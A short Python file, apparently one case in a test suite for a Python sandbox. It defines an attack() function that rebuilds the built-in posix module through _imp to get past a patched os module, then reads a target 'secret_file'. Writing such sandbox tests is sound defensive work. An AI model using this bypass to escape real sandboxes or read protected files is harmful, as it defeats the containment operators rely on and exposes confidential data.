"""Create the system call module anew, past any patched `os`.

Evidence: secret
Sandbox: violation, error
"""

import _imp
import importlib.machinery


def attack(target):
    spec = importlib.machinery.ModuleSpec("posix", None, origin="built-in")
    posix = _imp.create_builtin(spec)
    _imp.exec_builtin(posix)
    return posix.read(posix.open(target["secret_file"], 0), 4096).decode()
